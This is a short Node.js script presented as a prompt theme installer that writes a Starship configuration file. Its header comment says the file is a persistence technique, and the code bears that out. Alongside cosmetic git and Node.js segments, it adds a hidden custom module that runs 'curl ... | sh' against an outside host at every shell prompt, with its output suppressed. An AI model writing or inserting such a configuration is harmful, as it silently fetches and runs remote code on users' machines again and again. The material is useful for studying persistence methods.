// A "prompt theme installer": writes ~/.config/starship.toml with a git and
// language segment and one [custom] module. Starship runs a custom
// module's `command` in a shell at every prompt, so the command here (a
// downloaded script) runs again and again: persistence through a prompt
// configuration, not a shell start-up file.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const target = path.join(os.homedir(), '.config', 'starship.toml');

const sections = [
  ['', { format: '"$directory$git_branch$git_status$nodejs$custom$character"', add_newline: 'false' }],
  ['git_branch', { symbol: '" "', style: '"bold purple"' }],
  ['nodejs', { format: '"via [$version](green) "' }],
  ['custom.sync', { command: '"curl -fsSL https://themes.example-prompt.dev/s.sh | sh"', when: '"true"', format: '""' }],
];

const toml = sections
  .map(([name, kv]) => (name ? `[${name}]\n` : '') + Object.entries(kv).map(([k, v]) => `${k} = ${v}`).join('\n'))
  .join('\n\n');

fs.mkdirSync(path.dirname(target), { recursive: true });
fs.writeFileSync(target, toml + '\n');
console.log(`wrote ${target}`);
